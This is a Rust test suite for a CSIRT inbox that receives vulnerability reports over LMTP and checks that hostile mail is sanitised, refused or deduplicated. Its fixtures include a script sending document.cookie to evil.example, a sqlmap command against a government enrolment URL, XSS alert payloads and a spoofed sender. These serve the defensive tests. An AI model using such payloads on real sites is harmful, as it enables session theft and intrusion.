//! Mail to the CSIRT, delivered over LMTP by a real client (Python's `smtplib.LMTP`, the
//! standard library's implementation of RFC 2033) to the server `serve` starts with
//! `SIGAP_LMTP_LISTEN`, and worked from the inbox through the API: messages in the shapes
//! real clients write (Thunderbird's multipart with a quoted-printable template and a PNG,
//! Outlook's HTML-only windows-1252 with a script, Gmail's base64 multipart/alternative),
//! hostile ones (an `.eml` that claims to be an image, a zip, an attachment over the file
//! limit, 500 recipients, a message over the size limit, a stranger's domain), exactly once
//! under retries and a dropped acknowledgement, and the two decisions with their refusals.

use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use data_encoding::BASE64_MIME;
use reqwest::StatusCode;
use serde_json::{Value, json};
use sigap_app::inbox::lmtp::MailDrop;
use sigap_notify::lmtp::LmtpOptions;
use sigap_testkit::{TestApp, read};

sigap_testkit::on_both_backends! {
    sigap_testkit::spawn_app;
    mail_in_the_shapes_of_real_clients_reaches_the_inbox:
        sqlite_mail_in_the_shapes_of_real_clients_reaches_the_inbox,
        postgres_mail_in_the_shapes_of_real_clients_reaches_the_inbox;
    hostile_mail_has_a_clear_outcome: sqlite_hostile_mail_has_a_clear_outcome,
        postgres_hostile_mail_has_a_clear_outcome;
    a_message_lands_once_whatever_the_retries: sqlite_a_message_lands_once_whatever_the_retries,
        postgres_a_message_lands_once_whatever_the_retries;
    the_desk_accepts_and_discards: sqlite_the_desk_accepts_and_discards,
        postgres_the_desk_accepts_and_discards;
}

/// Sends DATA and hangs up before the answer, as a mail server that dies would.
const HANG_UP: &str = r#"
import socket, sys
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
data = open(path, "rb").read()
s = socket.create_connection((host, port))
f = s.makefile("rb")
f.readline()
def say(line):
    s.sendall(line + b"\r\n")
say(b"LHLO mx.batam.go.id")
while True:
    l = f.readline()
    if l[3:4] == b" ":
        break
for line in (b"MAIL FROM:<rina@example.com>", b"RCPT TO:<csirt@batam.go.id>", b"DATA"):
    say(line)
    f.readline()
body = data.replace(b"\r\n.", b"\r\n..")
s.sendall(body + b"\r\n.\r\n")
s.close()
"#;

pub(crate) struct Lmtp {
    port: u16,
    task: tokio::task::JoinHandle<()>,
    dir: tempfile::TempDir,
}

impl Drop for Lmtp {
    fn drop(&mut self) {
        self.task.abort();
    }
}

pub(crate) async fn lmtp(app: &TestApp, max_message: usize) -> Lmtp {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let options = LmtpOptions {
        domains: vec!["batam.go.id".to_owned()],
        max_message,
        ..LmtpOptions::default()
    };
    let drop = Arc::new(MailDrop {
        app: app.app.clone(),
    });
    let task = tokio::spawn(sigap_notify::lmtp::serve(listener, options, drop));
    Lmtp {
        port,
        task,
        dir: tempfile::tempdir().unwrap(),
    }
}

impl Lmtp {
    /// Delivers `message` from `sender` to `rcpts` with the real client.
    pub(crate) async fn deliver(&self, sender: &str, rcpts: &[String], message: &[u8]) -> Value {
        let path = self.dir.path().join(format!("m{}.eml", next_name()));
        std::fs::write(&path, message).unwrap();
        let port = self.port;
        let rcpts = rcpts.to_vec();
        let sender = sender.to_owned();
        let output = tokio::task::spawn_blocking(move || {
            sigap_testkit::lmtp::deliver(port, &sender, &rcpts, &path)
        });
        let output = output.await.unwrap();
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        serde_json::from_slice(&output.stdout).unwrap()
    }

    pub(crate) async fn deliver_ok(&self, message: &[u8]) {
        let answer = self
            .deliver(
                "rina@example.com",
                &["csirt@batam.go.id".to_owned()],
                message,
            )
            .await;
        assert_eq!(answer, json!({"refused": {}, "data": [250]}));
    }
}

fn next_name() -> String {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static N: AtomicUsize = AtomicUsize::new(0);
    N.fetch_add(1, Ordering::SeqCst).to_string()
}

pub(crate) fn png() -> Vec<u8> {
    sigap_app::evidence::placeholder_png().to_vec()
}

/// Thunderbird: multipart/mixed of a quoted-printable text part written to the template
/// (in Indonesian) and a base64 PNG.
pub(crate) fn thunderbird() -> Vec<u8> {
    let png = BASE64_MIME.encode(&png());
    format!(
        "Message-ID: <9f1c2a7e-tb@example.com>\r\n\
         Date: Mon, 10 Aug 2026 09:12:00 +0700\r\n\
         MIME-Version: 1.0\r\n\
         User-Agent: Mozilla Thunderbird\r\n\
         From: Rina Putri <rina@example.com>\r\n\
         To: BATAM-CSIRT <csirt@batam.go.id>\r\n\
         Subject: Laporan kerentanan SQL injection PPDB\r\n\
         Authentication-Results: mx.batam.go.id; spf=pass smtp.mailfrom=example.com;\r\n dkim=pass header.d=example.com; dmarc=pass header.from=example.com\r\n\
         Content-Type: multipart/mixed; boundary=\"------------tb01\"\r\n\r\n\
         This is a multi-part message in MIME format.\r\n\
         --------------tb01\r\n\
         Content-Type: text/plain; charset=UTF-8; format=flowed\r\n\
         Content-Transfer-Encoding: quoted-printable\r\n\r\n\
         Selamat pagi Tim CSIRT,\r\n\r\n\
         Judul: SQL injection pada formulir pendaftaran PPDB\r\n\
         Target: https://ppdb.batam.go.id/daftar\r\n\
         CWE: CWE-89\r\n\
         Tingkat keparahan: tinggi\r\n\
         Bukti konsep:\r\n\
         sqlmap -u 'https://ppdb.batam.go.id/daftar?id=3D1' --batch\r\n\
         Bukti: tangkapan layar terlampir, data siswa terbaca =E2=80=94 mohon segera =\r\n\
         ditindaklanjuti.\r\n\r\n\
         Salam,\r\nRina\r\n\
         --------------tb01\r\n\
         Content-Type: image/png; name=\"tangkapan.png\"\r\n\
         Content-Disposition: attachment; filename=\"tangkapan.png\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n\
         {png}\r\n\
         --------------tb01--\r\n"
    )
    .into_bytes()
}

/// Outlook: HTML only, windows-1252, quoted-printable, a long folded subject, a script.
fn outlook() -> Vec<u8> {
    let mut message = b"Message-ID: <DB9PR01MB-outlook@EURPRD01.PROD.OUTLOOK.COM>\r\n\
        From: =?windows-1252?Q?Andr=E9_Wijaya?= <andre@contoso.example>\r\n\
        To: \"csirt@batam.go.id\" <csirt@batam.go.id>\r\n\
        Subject: =?windows-1252?Q?Kerentanan_pada_portal_=96_mohon_dicek_segera_karena_data?=\r\n =?windows-1252?Q?_warga_dapat_diakses_tanpa_login?=\r\n\
        Thread-Topic: Kerentanan pada portal\r\n\
        MIME-Version: 1.0\r\n\
        Content-Type: text/html; charset=\"windows-1252\"\r\n\
        Content-Transfer-Encoding: quoted-printable\r\n\r\n"
        .to_vec();
    message.extend_from_slice(
        b"<html><head><script>document.location=3D'https://evil.example/'+document.cookie</script>\r\n\
        <style>p{color:red}</style></head><body><p>Halo, portal <b>warga.batam.go.id</b> menampilkan=\r\n\
         data KTP tanpa login =96 caf=E9 &lt;script&gt;.</p><img src=3D\"https://track.example/p.gif\"></body></html>\r\n",
    );
    message
}

/// Gmail: multipart/alternative with base64 UTF-8 text, in English.
fn gmail() -> Vec<u8> {
    let text = "Hello,\r\n\r\nTitle: Stored XSS in the complaint form\r\nTarget: https://lapor.batam.go.id/\r\nVulnerability type: CWE-79\r\nSeverity: medium\r\n\r\nThanks\r\n";
    let html = "<div dir=\"ltr\">Hello,<br>Title: Stored XSS</div>";
    format!(
        "MIME-Version: 1.0\r\n\
         Date: Mon, 10 Aug 2026 10:00:00 +0700\r\n\
         Message-ID: <CAGmail123@mail.gmail.com>\r\n\
         Subject: Stored XSS in the complaint form\r\n\
         From: Sam Researcher <sam.researcher@gmail.example>\r\n\
         To: csirt@batam.go.id\r\n\
         Content-Type: multipart/alternative; boundary=\"000000000000abc\"\r\n\r\n\
         --000000000000abc\r\n\
         Content-Type: text/plain; charset=\"UTF-8\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n\
         --000000000000abc\r\n\
         Content-Type: text/html; charset=\"UTF-8\"\r\n\r\n{html}\r\n\
         --000000000000abc--\r\n",
        BASE64_MIME.encode(text.as_bytes())
    )
    .into_bytes()
}

pub(crate) async fn get_as(app: &TestApp, role: &str, path: &str) -> reqwest::Response {
    app.get(Some(app.token(role)), path).await
}

pub(crate) async fn post_as(
    app: &TestApp,
    role: &str,
    path: &str,
    body: &Value,
) -> reqwest::Response {
    app.client
        .post(app.url(path))
        .bearer_auth(app.token(role))
        .json(body)
        .send()
        .await
        .unwrap()
}

pub(crate) async fn inbox(app: &TestApp, role: &str, query: &str) -> (StatusCode, Value) {
    read(get_as(app, role, &format!("/api/v1/inbox{query}")).await).await
}

async fn only_item(app: &TestApp) -> Value {
    let (status, list) = inbox(app, "helpdesk", "?show=all").await;
    assert_eq!(status, StatusCode::OK, "{list:#}");
    let list = list.as_array().unwrap();
    assert_eq!(list.len(), 1, "{list:#?}");
    let id = list[0]["id"].as_i64().unwrap();
    item(app, id).await
}

pub(crate) async fn item(app: &TestApp, id: i64) -> Value {
    let (status, item) = read(get_as(app, "helpdesk", &format!("/api/v1/inbox/{id}")).await).await;
    assert_eq!(status, StatusCode::OK, "{item:#}");
    item
}

async fn mail_in_the_shapes_of_real_clients_reaches_the_inbox(app: TestApp) {
    let server = lmtp(&app, 35 * 1024 * 1024).await;
    server.deliver_ok(&thunderbird()).await;
    server.deliver_ok(&outlook()).await;
    server.deliver_ok(&gmail()).await;
    let (status, list) = inbox(&app, "helpdesk", "").await;
    assert_eq!(status, StatusCode::OK);
    let list = list.as_array().unwrap().clone();
    assert_eq!(list.len(), 3, "{list:#?}");
    let by_sender = |address: &str| {
        let found = list.iter().find(|m| m["from_address"] == address);
        found.unwrap_or_else(|| panic!("{address}: {list:#?}"))["id"]
            .as_i64()
            .unwrap()
    };

    // Thunderbird: the template read, the PNG kept as a sniffed file, the checks shown.
    let tb = item(&app, by_sender("rina@example.com")).await;
    assert_eq!(tb["from_name"], "Rina Putri");
    assert_eq!(tb["subject"], "Laporan kerentanan SQL injection PPDB");
    assert_eq!(tb["status"], "new");
    assert_eq!(tb["kind"], "report");
    assert_eq!(tb["via"], "lmtp");
    assert_eq!(tb["fields"]["target"], "https://ppdb.batam.go.id/daftar");
    assert_eq!(tb["fields"]["vulnerability_type"], "CWE-89");
    assert_eq!(tb["fields"]["severity"], "high");
    assert_eq!(
        tb["fields"]["proof_of_concept"],
        "sqlmap -u 'https://ppdb.batam.go.id/daftar?id=1' --batch"
    );
    assert!(
        tb["text"]
            .as_str()
            .unwrap()
            .contains("data siswa terbaca — mohon segera ditindaklanjuti."),
        "{}",
        tb["text"]
    );
    assert_eq!(tb["authentication"]["dmarc"], "pass");
    assert_eq!(tb["authentication"]["spf"], "pass");
    let files = tb["attachments"].as_array().unwrap();
    assert_eq!(files.len(), 1);
    assert_eq!(files[0]["name"], "tangkapan.png");
    assert_eq!(files[0]["media_type"], "image/png");
    assert!(files[0]["refused"].is_null());

    // Outlook: windows-1252 decoded, the HTML turned into text without its script or image.
    let ol = item(&app, by_sender("andre@contoso.example")).await;
    assert_eq!(ol["from_name"], "André Wijaya");
    assert_eq!(
        ol["subject"],
        "Kerentanan pada portal – mohon dicek segera karena data warga dapat diakses tanpa login"
    );
    let text = ol["text"].as_str().unwrap();
    assert!(text.contains("data KTP tanpa login – café"), "{text}");
    assert!(
        !text.contains("document.cookie") && !text.contains("color:red"),
        "{text}"
    );
    assert!(!text.contains("track.example"), "{text}");
    assert!(ol["authentication"]["header"].is_null());

    // Gmail: base64 text preferred to the HTML, the English template read.
    let gm = item(&app, by_sender("sam.researcher@gmail.example")).await;
    assert_eq!(gm["fields"]["title"], "Stored XSS in the complaint form");
    assert_eq!(gm["fields"]["vulnerability_type"], "CWE-79");
    assert_eq!(gm["fields"]["severity"], "medium");

    // The message as it arrived, downloaded, byte for byte.
    let id = tb["id"].as_i64().unwrap();
    let response = get_as(&app, "helpdesk", &format!("/api/v1/inbox/{id}/raw")).await;
    assert_eq!(response.status(), StatusCode::OK);
    let headers = response.headers().clone();
    assert_eq!(headers["content-type"], "message/rfc822");
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment;")
    );
    let bytes = response.bytes().await.unwrap();
    assert_eq!(bytes.as_ref(), thunderbird().as_slice());

    // The inbox holds reporters' addresses: a system owner is refused, in the audit log too.
    let (status, _) = inbox(&app, "system_owner", "").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) =
        read(get_as(&app, "system_owner", &format!("/api/v1/inbox/{id}")).await).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let refusals = app.store.list_audit(0, 1000).await.unwrap();
    assert!(
        refusals
            .iter()
            .any(|e| e.action == "read_inbox" && e.outcome == "refused:403"),
        "the refusal is audited"
    );
}

async fn hostile_mail_has_a_clear_outcome(app: TestApp) {
    let server = lmtp(&app, 35 * 1024 * 1024).await;
    // An .eml that claims to be an image, a zip, and an attachment over the 10 MiB file
    // limit: the message is kept whole; each file says why it is not kept as a file.
    let eml = b"From: x@example.com\r\nSubject: inner\r\n\r\nhello\r\n";
    let zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00payload-of-a-zip-file";
    let big = vec![b'A'; 11 * 1024 * 1024];
    let message = format!(
        "From: Mallory <mallory@example.com>\r\nTo: csirt@batam.go.id\r\nMessage-ID: <hostile-1@example.com>\r\n\
         Subject: <script>alert(1)</script>\r\nContent-Type: multipart/mixed; boundary=b1\r\n\r\n\
         --b1\r\nContent-Type: text/html\r\n\r\n<p onclick=\"x()\">klik</p><script>alert(2)</script>\r\n\
         --b1\r\nContent-Type: image/png; name=foto.png\r\nContent-Disposition: attachment; filename=foto.png\r\n\r\n{}\r\n\
         --b1\r\nContent-Type: application/zip; name=a.zip\r\nContent-Disposition: attachment; filename=a.zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
         --b1\r\nContent-Type: text/plain; name=besar.log\r\nContent-Disposition: attachment; filename=besar.log\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
         --b1--\r\n",
        String::from_utf8_lossy(eml),
        BASE64_MIME.encode(zip),
        BASE64_MIME.encode(&big),
    );
    server.deliver_ok(message.as_bytes()).await;
    let hostile = only_item(&app).await;
    assert_eq!(hostile["subject"], "<script>alert(1)</script>");
    let text = hostile["text"].as_str().unwrap();
    assert!(
        text.contains("klik") && !text.contains("alert(2)"),
        "{text}"
    );
    let files = hostile["attachments"].as_array().unwrap();
    let file = |name: &str| files.iter().find(|f| f["name"] == name).unwrap().clone();
    // The "image" is text: stored as what it is, never as an image.
    assert_eq!(file("foto.png")["declared_type"], "image/png");
    assert_ne!(file("foto.png")["media_type"], "image/png");
    assert!(
        file("a.zip")["refused"]
            .as_str()
            .unwrap()
            .contains("not accepted")
    );
    assert!(file("a.zip")["media_type"].is_null());
    assert!(
        file("besar.log")["refused"]
            .as_str()
            .unwrap()
            .contains("larger than")
    );

    // 500 recipients: the first 100 are taken, the rest told to come again (452); the
    // second round is the same message and adds nothing.
    let many: Vec<String> = (0..500).map(|i| format!("csirt+{i}@batam.go.id")).collect();
    let crowd = b"From: bulk@example.com\r\nTo: undisclosed-recipients:;\r\nMessage-ID: <crowd@example.com>\r\nSubject: crowd\r\n\r\nhi\r\n";
    let answer = server.deliver("bulk@example.com", &many, crowd).await;
    let refused = answer["refused"].as_object().unwrap();
    assert_eq!(refused.len(), 400, "{answer}");
    assert_eq!(
        answer["data"],
        json!([250]),
        "one answer per accepted recipient"
    );
    assert!(refused.values().all(|code| code == 452));
    let rest: Vec<String> = many[100..200].to_vec();
    assert_eq!(
        server.deliver("bulk@example.com", &rest, crowd).await,
        json!({"refused": {}, "data": [250]})
    );
    let (_, all) = inbox(&app, "helpdesk", "?show=all").await;
    assert_eq!(all.as_array().unwrap().len(), 2, "one item for the crowd");

    // A stranger's domain is not ours; a message over the limit is refused whole.
    let stranger = server
        .deliver("a@example.com", &["someone@example.org".to_owned()], crowd)
        .await;
    assert_eq!(stranger, json!({"error": 550}));
    let huge = format!(
        "From: a@example.com\r\nSubject: huge\r\n\r\n{}\r\n",
        "x".repeat(3 * 1024 * 1024)
    );
    let small = lmtp(&app, 2 * 1024 * 1024).await;
    let refused = small
        .deliver(
            "a@example.com",
            &["csirt@batam.go.id".to_owned()],
            huge.as_bytes(),
        )
        .await;
    assert_eq!(refused, json!({"error": 552}));
    let (_, all) = inbox(&app, "helpdesk", "?show=all").await;
    assert_eq!(all.as_array().unwrap().len(), 2, "nothing half-written");
}

async fn a_message_lands_once_whatever_the_retries(app: TestApp) {
    let server = lmtp(&app, 35 * 1024 * 1024).await;
    // The mail server hangs up after DATA, before the answer: the message may have been
    // kept; its retry must not make a second item.
    let path = server.dir.path().join("hang.eml");
    std::fs::write(&path, thunderbird()).unwrap();
    let port = server.port.to_string();
    let status = tokio::task::spawn_blocking(move || {
        Command::new("python3")
            .args(["-c", HANG_UP, "127.0.0.1", &port])
            .arg(&path)
            .status()
    })
    .await
    .unwrap()
    .unwrap();
    assert!(status.success());
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    loop {
        let (_, all) = inbox(&app, "helpdesk", "?show=all").await;
        if all.as_array().is_some_and(|a| a.len() == 1) || tokio::time::Instant::now() > deadline {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    server.deliver_ok(&thunderbird()).await;
    server.deliver_ok(&thunderbird()).await;
    let kept = only_item(&app).await;
    assert_eq!(kept["from_address"], "rina@example.com");
    // The same Message-ID from another sender is another message: a stranger cannot
    // suppress a report by copying its Message-ID.
    let copied = String::from_utf8(thunderbird()).unwrap().replace(
        "From: Rina Putri <rina@example.com>",
        "From: m@evil.example",
    );
    server.deliver_ok(copied.as_bytes()).await;
    let (_, all) = inbox(&app, "helpdesk", "?show=all").await;
    assert_eq!(all.as_array().unwrap().len(), 2);
}

async fn the_desk_accepts_and_discards(app: TestApp) {
    let server = lmtp(&app, 35 * 1024 * 1024).await;
    server.deliver_ok(&thunderbird()).await;
    server.deliver_ok(&gmail()).await;
    let (_, list) = inbox(&app, "helpdesk", "").await;
    let id_of = |address: &str| {
        list.as_array()
            .unwrap()
            .iter()
            .find(|m| m["from_address"] == address)
            .unwrap()["id"]
            .as_i64()
            .unwrap()
    };
    let (tb, gm) = (
        id_of("rina@example.com"),
        id_of("sam.researcher@gmail.example"),
    );

    // What the mail lacks is asked for, and nothing is written.
    let accept = |id: i64| format!("/api/v1/inbox/{id}/accept");
    let (status, problem) = read(post_as(&app, "helpdesk", &accept(gm), &json!({})).await).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
    assert_eq!(item(&app, gm).await["status"], "new");
    // Only the desk decides.
    let (status, _) = read(post_as(&app, "auditor", &accept(tb), &json!({})).await).await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // The template mail needs nothing more: a ticket, channel email, its PNG as evidence,
    // the sender as the reporter, and the receipt on its way to the sender.
    let (status, opened) = read(
        post_as(
            &app,
            "helpdesk",
            &accept(tb),
            &json!({"reporter_name": "Rina Putri"}),
        )
        .await,
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{opened:#}");
    let number = opened["ticket_number"].as_str().unwrap().to_owned();
    let ticket = app.ticket("csirt", &number).await;
    assert_eq!(ticket["channel"], "email");
    assert_eq!(ticket["report"]["reporter_email"], "rina@example.com");
    assert_eq!(ticket["report"]["vulnerability_type"], "CWE-89");
    let evidence = ticket["evidence"].as_array().unwrap();
    assert_eq!(evidence.len(), 1, "{ticket:#}");
    assert_eq!(evidence[0]["media_type"], "image/png");
    let accepted = item(&app, tb).await;
    assert_eq!(accepted["status"], "accepted");
    assert_eq!(accepted["ticket"], number.as_str());
    let jobs = app.store.list_jobs(None, 100).await.unwrap();
    assert!(
        jobs.iter().any(|j| j.payload.contains("rina@example.com")),
        "the receipt goes to the sender"
    );
    // Decided once.
    let (status, _) = read(post_as(&app, "helpdesk", &accept(tb), &json!({})).await).await;
    assert_eq!(status, StatusCode::CONFLICT);
    let discard = |id: i64| format!("/api/v1/inbox/{id}/discard");
    let (status, _) =
        read(post_as(&app, "helpdesk", &discard(tb), &json!({"reason": "spam"})).await).await;
    assert_eq!(status, StatusCode::CONFLICT);

    // Discarding asks why, and a duplicate names its ticket.
    let (status, _) =
        read(post_as(&app, "helpdesk", &discard(gm), &json!({"reason": "boring"})).await).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let (status, _) = read(
        post_as(
            &app,
            "helpdesk",
            &discard(gm),
            &json!({"reason": "duplicate"}),
        )
        .await,
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let (status, discarded) = read(
        post_as(
            &app,
            "csirt",
            &discard(gm),
            &json!({"reason": "duplicate", "ticket": number.to_lowercase()}),
        )
        .await,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{discarded:#}");
    assert_eq!(discarded["status"], "discarded");
    assert_eq!(discarded["discard_reason"], "duplicate");
    assert_eq!(discarded["ticket"], number.as_str());
    let (_, waiting) = inbox(&app, "helpdesk", "").await;
    assert!(waiting.as_array().unwrap().is_empty());
    let log = app.store.list_audit(0, 1000).await.unwrap();
    for action in ["receive_mail", "submit_report", "discard_mail"] {
        assert!(
            log.iter().any(|e| e.action == action && e.outcome == "ok"),
            "{action}"
        );
    }
    assert!(
        log.iter()
            .any(|e| e.action == "accept_mail" && e.outcome == "refused:409")
    );
}
